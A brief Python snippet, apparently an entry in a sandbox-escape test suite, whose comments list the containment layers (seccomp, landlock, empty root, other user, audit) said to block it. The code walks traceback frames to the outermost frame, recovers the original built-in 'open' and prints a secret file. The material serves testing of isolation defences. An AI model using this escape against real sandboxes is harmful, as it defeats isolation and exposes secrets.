# Takes the built-ins of the outermost frame, where nothing was replaced.
# evidence: token
# held by: seccomp, landlock, empty_root, other_user, audit
try:
    raise Exception
except Exception as error:
    frame = error.__traceback__.tb_frame
while frame.f_back:
    frame = frame.f_back
posix = frame.f_builtins['open']
print(posix(SECRET).read())
